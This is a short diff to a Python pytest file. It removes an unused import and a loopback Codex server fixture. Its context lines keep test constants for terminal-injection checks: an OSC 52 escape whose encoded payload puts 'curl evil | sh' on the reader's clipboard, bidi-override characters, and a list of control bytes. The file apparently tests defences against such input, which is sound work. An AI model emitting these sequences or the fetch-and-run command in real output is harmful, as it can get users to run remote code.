@@ -11,7 +11,6 @@ from __future__ import annotations
 import os
 import subprocess
 import sys
-from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
@@ -28,12 +27,6 @@ OSC52 = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"
 """OSC 52: write `curl evil | sh` to the clipboard of whoever reads the diff."""
 BIDI = "\u202e\u2066"
 TERMINAL_BYTES = ("\x1b", "\r", "\x07", "\x9b", "\u202e", "\u2066")
-
-
-@pytest.fixture()
-def codex() -> Iterator[LoopbackCodex]:
-    with LoopbackCodex() as server:
-        yield server
 
 
 def run_dry(tmp_path: Path, codex: LoopbackCodex, patch: str) -> subprocess.CompletedProcess[str]:
